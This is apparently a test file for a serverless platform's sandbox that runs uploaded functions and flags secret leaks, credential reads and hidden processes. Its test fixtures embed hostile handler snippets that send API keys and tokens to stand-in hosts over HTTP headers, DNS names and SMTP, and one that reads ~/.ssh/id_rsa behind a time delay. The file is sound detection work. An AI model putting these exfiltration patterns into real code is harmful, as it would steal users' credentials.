"""The detonation stage on real uploads: the sandbox, the recording network, the canaries.

Everything is real (bubblewrap, seccomp, a network namespace of its own, the sink); nothing
leaves that namespace. Needs root, as the platform's detonation does.
"""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from sless.validation.detonation import Detonation, detonate, unavailable
from sless.validation.report import StageResult, Verdict

pytestmark = pytest.mark.skipif(unavailable() is not None, reason=str(unavailable()))

ADVERSARIAL = Path(__file__).parents[2] / "validation" / "adversarial"


def _code(tmp_path: Path, files: dict[str, str]) -> Path:
    os.chmod(tmp_path, 0o755)
    for name, text in files.items():
        (tmp_path / name).write_text(text)
        os.chmod(tmp_path / name, 0o644)
    return tmp_path


async def _run(directory: Path, runtime: str, plan: Detonation | None = None) -> StageResult:
    return await detonate(directory, runtime, "handler.handle", plan or Detonation())


def _rules(stage: StageResult) -> set[str]:
    return {f.rule for f in stage.findings}


async def test_a_picked_secret_in_a_header_is_rejected_with_the_bytes(tmp_path: Path) -> None:
    code = _code(tmp_path, {"handler.py": (
        "import os, urllib.request\n"
        "def handle(event, context):\n"
        "    k = os.environ['STRIPE_API_KEY']\n"
        "    urllib.request.urlopen(urllib.request.Request(\n"
        "        'https://stats.example.net/p', headers={'x-trace': k}, method='HEAD'),\n"
        "        timeout=2)\n"
    )})  # fmt: skip
    stage = await _run(code, "python3.11")
    assert stage.verdict is Verdict.REJECT
    leak = next(f for f in stage.findings if f.rule == "detonation-canary-exfiltration")
    assert "env:STRIPE_API_KEY" in leak.message
    assert leak.evidence is not None
    assert "x-trace" in leak.evidence.lower()
    assert "stats.example.net" in leak.evidence


async def test_a_declared_secret_to_its_declared_host_is_allowed(tmp_path: Path) -> None:
    code = _code(tmp_path, {"handler.py": (
        "import os, urllib.request\n"
        "def handle(event, context):\n"
        "    req = urllib.request.Request('https://api.sendgrid.com/v3/mail/send', data=b'{}',\n"
        "        headers={'Authorization': 'Bearer ' + os.environ['SENDGRID_API_KEY']})\n"
        "    urllib.request.urlopen(req, timeout=2)\n"
    )})  # fmt: skip
    plan = Detonation(egress=("api.sendgrid.com:443",), secrets=("SENDGRID_API_KEY",))
    stage = await _run(code, "python3.11", plan)
    assert stage.status == "ok"
    assert stage.findings == []
    assert stage.verdict is Verdict.ALLOW
    # the same code without the declaration: its own secret to an undeclared host
    undeclared = await _run(code, "python3.11", Detonation(secrets=("SENDGRID_API_KEY",)))
    assert undeclared.verdict is Verdict.REJECT


async def test_a_declared_host_does_not_launder_another_secret(tmp_path: Path) -> None:
    code = _code(tmp_path, {"handler.py": (
        "import os, urllib.request\n"
        "def handle(event, context):\n"
        "    key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
        "    urllib.request.urlopen('https://api.sendgrid.com/x?k=' + key, timeout=2)\n"
    )})  # fmt: skip
    plan = Detonation(egress=("api.sendgrid.com:443",), secrets=("SENDGRID_API_KEY",))
    stage = await _run(code, "python3.11", plan)
    assert stage.verdict is Verdict.REJECT
    assert "env:AWS_SECRET_ACCESS_KEY" in stage.findings[0].message


async def test_dns_name_exfiltration_in_node_is_rejected(tmp_path: Path) -> None:
    code = _code(tmp_path, {"handler.js": (
        "const dns = require('dns');\n"
        "exports.handle = async () => {\n"
        "  const h = Buffer.from(process.env.GITHUB_TOKEN).toString('hex');\n"
        "  await new Promise((r) => dns.lookup(h.slice(0, 50) + '.x.example.org', () => r()));\n"
        "};\n"
    )})  # fmt: skip
    stage = await _run(code, "nodejs20")
    assert stage.verdict is Verdict.REJECT
    assert any("DNS" in f.message and "GITHUB_TOKEN" in f.message for f in stage.findings)


async def test_behaviour_gated_a_year_ahead_is_seen(tmp_path: Path) -> None:
    code = _code(tmp_path, {"handler.py": (
        "import datetime, os\n"
        "LOADED = datetime.date.today()\n"
        "def handle(event, context):\n"
        "    if datetime.datetime.now().date() - LOADED > datetime.timedelta(days=300):\n"
        "        open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
    )})  # fmt: skip
    stage = await _run(code, "python3.11")
    assert "detonation-credential-read" in _rules(stage)
    assert stage.verdict is Verdict.REVIEW


async def test_processes_and_startup_files_are_held_with_evidence(tmp_path: Path) -> None:
    code = _code(tmp_path, {"handler.js": (
        "const cp = require('child_process');\n"
        "const fs = require('fs');\n"
        "exports.handle = async () => {\n"
        "  try { fs.writeFileSync('/code/evil.pth', 'import os'); } catch (e) {}\n"
        "  cp.spawn('/bin/true', [], { detached: true, stdio: 'ignore' }).unref();\n"
        "};\n"
    )})  # fmt: skip
    stage = await _run(code, "nodejs20")
    assert {"detonation-process", "detonation-startup-file"} <= _rules(stage)
    assert stage.verdict is Verdict.REVIEW
    spawn = next(f for f in stage.findings if f.rule == "detonation-process")
    assert spawn.evidence is not None
    assert "/bin/true" in spawn.evidence


async def test_a_sleeping_handler_stays_within_the_budget(tmp_path: Path) -> None:
    code = _code(tmp_path, {"handler.py": (
        "import time\n"
        "def handle(event, context):\n"
        "    time.sleep(30)\n"
    )})  # fmt: skip
    stage = await _run(code, "python3.11", Detonation(budget_s=1.0))
    assert stage.status == "ok"
    assert stage.verdict is Verdict.ALLOW, stage.findings


async def test_code_that_exits_at_import_is_held(tmp_path: Path) -> None:
    code = _code(tmp_path, {"handler.py": "import os\nos._exit(0)\ndef handle(e, c):\n    pass\n"})
    stage = await _run(code, "python3.11")
    assert "detonation-incomplete" in _rules(stage)


@pytest.mark.parametrize(
    "sample",
    sorted(p.name for p in (ADVERSARIAL / "benign").iterdir()),
)
async def test_adversarial_benign_samples_are_allowed(sample: str) -> None:
    directory = ADVERSARIAL / "benign" / sample
    meta = json.loads((directory / "meta.json").read_text())
    runtime = {"python": "python3.11", "node": "nodejs20"}[meta["runtime"]]
    plan = Detonation(egress=tuple(meta.get("egress", ())), secrets=tuple(meta.get("secrets", ())))
    stage = await _run(directory, runtime, plan)
    assert stage.verdict is Verdict.ALLOW, stage.findings


async def test_a_tool_wrapper_calling_an_undeclared_api_is_allowed_with_notes(
    tmp_path: Path,
) -> None:
    """What a benign function does: runs a program with arguments, calls a public API its
    spec does not list (blocked when serving), and writes a temporary file (O_TMPFILE opens
    /tmp itself). Notes, with evidence; nothing held."""
    code = _code(tmp_path, {"handler.py": (
        "import subprocess, tempfile, urllib.request\n"
        "def handle(event, context):\n"
        "    with tempfile.TemporaryFile() as f:\n"
        "        f.write(b'x')\n"
        "    subprocess.run(['date', '+%s'], capture_output=True, check=False)\n"
        "    try:\n"
        "        urllib.request.urlopen('https://api.frankfurter.app/latest', timeout=2)\n"
        "    except Exception:\n"
        "        pass\n"
    )})  # fmt: skip
    stage = await _run(code, "python3.11")
    assert stage.verdict is Verdict.ALLOW, stage.findings
    assert {"detonation-process", "detonation-undeclared-host"} <= _rules(stage)
    assert all(f.evidence for f in stage.findings)


async def test_a_node_handler_whose_promise_never_settles_completes(tmp_path: Path) -> None:
    """The sink's empty answer breaks JSON.parse in a response callback: the call's promise
    never settles and the event loop drains. The detonation is over, not incomplete."""
    code = _code(tmp_path, {"handler.js": (
        "const https = require('https');\n"
        "exports.handle = async () => new Promise((resolve, reject) => {\n"
        "  https.get('https://api.frankfurter.app/latest', (res) => {\n"
        "    let b = ''; res.on('data', (d) => (b += d));\n"
        "    res.on('end', () => resolve(JSON.parse(b)));\n"
        "  }).on('error', reject);\n"
        "});\n"
    )})  # fmt: skip
    stage = await _run(code, "nodejs20")
    assert "detonation-incomplete" not in _rules(stage), stage.findings
    assert stage.verdict is Verdict.ALLOW, stage.findings


@pytest.mark.parametrize(
    ("runtime", "source"),
    [
        ("python3.11", "import subprocess\ndef handle(e, c):\n"
         "    subprocess.Popen(['sleep', '60'], start_new_session=True)\n"),
        ("python3.11", "import subprocess\ndef handle(e, c):\n"
         "    subprocess.run('date', shell=True)\n"),
        ("python3.11", "import subprocess, sys\ndef handle(e, c):\n"
         "    subprocess.run([sys.executable, '-c', 'pass'])\n"),
        ("python3.11", "import os, shutil, subprocess\ndef handle(e, c):\n"
         "    shutil.copy('/bin/true', '/tmp/.u'); os.chmod('/tmp/.u', 0o755)\n"
         "    subprocess.run(['./.u'], cwd='/tmp')\n"),
        ("nodejs20", "const cp = require('child_process');\n"
         "exports.handle = async () => { cp.execSync('date'); };\n"),
        ("nodejs20", "const cp = require('child_process');\n"
         "exports.handle = async () => { cp.spawnSync('/bin/true', [], { shell: true }); };\n"),
    ],
    ids=["py-new-session", "py-shell", "py-inline-code", "py-program-in-tmp", "node-exec",
         "node-shell-option"],
)  # fmt: skip
async def test_processes_that_hide_or_run_text_are_held(
    tmp_path: Path, runtime: str, source: str
) -> None:
    name = "handler.py" if runtime.startswith("python") else "handler.js"
    stage = await _run(_code(tmp_path, {name: source}), runtime)
    held = [f for f in stage.findings if f.rule == "detonation-process"]
    assert any(f.severity is Verdict.REVIEW for f in held), stage.findings
    assert stage.verdict is Verdict.REVIEW


def _our_detonations() -> set[str]:
    """The command lines of this process's descendants that belong to a detonation."""
    parents: dict[int, int] = {}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                stat = (entry / "stat").read_text()
                parents[int(entry.name)] = int(stat.rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                continue
    found = set()
    for pid in parents:
        ancestor = parents.get(pid)
        while ancestor not in (None, 0, 1, os.getpid()):
            ancestor = parents.get(ancestor)
        if ancestor == os.getpid():
            try:
                cmdline = (Path("/proc") / str(pid) / "cmdline").read_bytes().replace(b"\0", b" ")
            except OSError:
                continue
            if b"sless-detonate-" in cmdline:
                found.add(cmdline.decode(errors="replace"))
    return found


async def test_a_cancelled_detonation_leaves_nothing_running(tmp_path: Path) -> None:
    """The pipeline cancels the detonation when the entrypoint does not load: its sandbox
    and recording network go with it; only the network made ready for the next upload
    stays."""
    import asyncio

    from sless.validation import recording

    code = _code(tmp_path, {"handler.py": "import time\ndef handle(e, c):\n    time.sleep(30)\n"})
    running = asyncio.ensure_future(_run(code, "python3.11", Detonation(budget_s=60.0)))
    await asyncio.sleep(0.5)
    running.cancel()
    with pytest.raises(asyncio.CancelledError):
        await running
    ready = recording._ready
    assert ready is not None
    for _ in range(100):  # discarding runs in a thread: wait for it, then check
        left = {c for c in _our_detonations() if str(ready.work) not in c}
        if not left:
            break
        await asyncio.sleep(0.1)
    assert not left, left


@pytest.mark.parametrize("secure", [False, True], ids=["smtp-587", "smtps-465"])
async def test_a_canary_mailed_through_the_declared_relay_is_rejected(
    tmp_path: Path, secure: bool
) -> None:
    """SMTP speaks first: a sink that waits for the client hears nothing. The function may
    log in to its declared relay with its own secret; mailing another secret is a leak."""
    connect = (
        "smtplib.SMTP_SSL('smtp.mail.example.com', 465, timeout=3)"
        if secure
        else "smtplib.SMTP('smtp.mail.example.com', 587, timeout=3)"
    )
    code = _code(tmp_path, {"handler.py": (
        "import os, smtplib\n"
        "def handle(event, context):\n"
        f"    s = {connect}\n"
        "    s.login('app', os.environ['SMTP_PASSWORD'])\n"
        "    s.sendmail('app@example.com', ['ops@example.org'],\n"
        "        'Subject: nightly\\r\\n\\r\\n' + os.environ['AWS_SECRET_ACCESS_KEY'])\n"
        "    s.quit()\n"
    )})  # fmt: skip
    port = 465 if secure else 587
    plan = Detonation(egress=(f"smtp.mail.example.com:{port}",), secrets=("SMTP_PASSWORD",))
    stage = await _run(code, "python3.11", plan)
    assert stage.verdict is Verdict.REJECT, stage.findings
    leak = next(f for f in stage.findings if f.rule == "detonation-canary-exfiltration")
    assert "env:AWS_SECRET_ACCESS_KEY" in leak.message
    assert "env:SMTP_PASSWORD" not in leak.message


_LEAK = (
    "    import os, urllib.request\n"
    "    urllib.request.urlopen(urllib.request.Request('https://stats.example.net/p',\n"
    "        headers={'x-trace': os.environ['STRIPE_API_KEY']}, method='HEAD'), timeout=2)\n"
)
#: code that leaks only when it answers a request, in each interface whose entrypoint is an
#: app, not an ``(event, context)`` handler: the harness must call it as its adapter would
APPS = {
    "asgi": (
        "app.app",
        "async def app(scope, receive, send):\n"
        "    if scope['type'] != 'http':\n"
        "        return\n" + _LEAK,
    ),
    "wsgi": (
        "app.app",
        "def app(environ, start_response):\n"
        + _LEAK
        + "    start_response('200 OK', [])\n    return [b'ok']\n",
    ),
    "knative": (
        "app.new",
        "class Function:\n"
        "    async def handle(self, scope, receive, send):\n"
        + _LEAK.replace("\n    ", "\n        ").replace("    import", "        import", 1)
        + "def new():\n    return Function()\n",
    ),
}


@pytest.mark.parametrize("interface", sorted(APPS))
async def test_a_leak_in_an_apps_request_handling_is_rejected(
    tmp_path: Path, interface: str
) -> None:
    entrypoint, source = APPS[interface]
    code = _code(tmp_path, {"app.py": source})
    plan = Detonation(interface=interface)
    stage = await detonate(code, "python3.11", entrypoint, plan)
    assert stage.verdict is Verdict.REJECT, stage
    assert "detonation-canary-exfiltration" in _rules(stage)


_LEAK_JS = (
    "  require('https').request({host: 'stats.example.net', method: 'HEAD',\n"
    "    headers: {'x-trace': process.env.STRIPE_API_KEY}}).on('error', () => {}).end();\n"
)
#: Node code that uses its peer's context API before it leaks: the harness's context must
#: let the call go on (a TypeError there would end the call before the leak)
NODE_PEERS = {
    "openfaas": (
        "handler.handle",
        "module.exports.handle = async (event, context) => {\n"
        "  context.status(200).headers({'content-type': 'text/plain'});\n"
        + _LEAK_JS
        + "  return context.succeed('ok');\n};\n",
    ),
    "knative": (
        "index.handle",
        "const handle = async (context, body) => {\n"
        "  context.log.info('called');\n" + _LEAK_JS + "  return {ok: true};\n};\n"
        "module.exports = { handle };\n",
    ),
}


@pytest.mark.parametrize("interface", sorted(NODE_PEERS))
async def test_a_leak_after_a_node_peers_context_api_is_rejected(
    tmp_path: Path, interface: str
) -> None:
    entrypoint, source = NODE_PEERS[interface]
    code = _code(tmp_path, {entrypoint.split(".")[0] + ".js": source})
    stage = await detonate(code, "nodejs20", entrypoint, Detonation(interface=interface))
    assert stage.verdict is Verdict.REJECT, stage
    assert "detonation-canary-exfiltration" in _rules(stage)


async def test_a_leak_from_a_thread_left_running_after_the_call_is_rejected(
    tmp_path: Path,
) -> None:
    code = _code(tmp_path, {"handler.py": (
        "import os, threading, time, urllib.request\n"
        "def _later():\n"
        "    time.sleep(0.3)\n"
        "    urllib.request.urlopen(urllib.request.Request('https://stats.example.net/p',\n"
        "        headers={'x-trace': os.environ['STRIPE_API_KEY']}, method='HEAD'), timeout=2)\n"
        "def handle(event, context):\n"
        "    threading.Thread(target=_later, daemon=True).start()\n"
        "    return 'ok'\n"
    )})  # fmt: skip
    stage = await _run(code, "python3.11")
    assert stage.verdict is Verdict.REJECT, stage
    assert "detonation-canary-exfiltration" in _rules(stage)
